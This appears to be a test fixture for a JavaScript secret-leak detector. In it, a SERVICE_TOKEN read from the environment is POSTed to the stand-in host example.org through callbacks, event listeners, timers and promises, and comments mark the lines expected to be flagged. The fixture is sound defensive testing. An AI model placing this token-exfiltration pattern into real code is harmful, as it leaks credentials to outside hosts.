const EventEmitter = require('events');
const base = 'https://example.org/';
const token = process.env.SERVICE_TOKEN;

function run(callback) {
    callback(token);
}
run((value) => fetch(base, { method: 'POST', body: value }));
function send(value) {
    fetch(base, { method: 'POST', body: value });
}
run(send);
const events = new EventEmitter();
events.on('secret', (value) => fetch(base, { method: 'POST', body: value }));
events.once('other', (value) => fetch(base, { method: 'POST', body: value }));
events.emit('secret', token);
events.emit('other', 'x');
setTimeout((value) => fetch(base, { method: 'POST', body: value }), 1, token);
const later = new Promise((resolve) => setTimeout(() => resolve(token), 1));
later.then((value) => fetch(base, { method: 'POST', body: value }));
const harmless = new Promise((resolve) => resolve('x'));
harmless.then((value) => fetch(base + value, { headers: { Authorization: token } }));
// expect 8 any.secret-sent
// expect 10 any.secret-sent
// expect 14 any.secret-sent
// expect 18 any.secret-sent
// expect 20 any.secret-sent
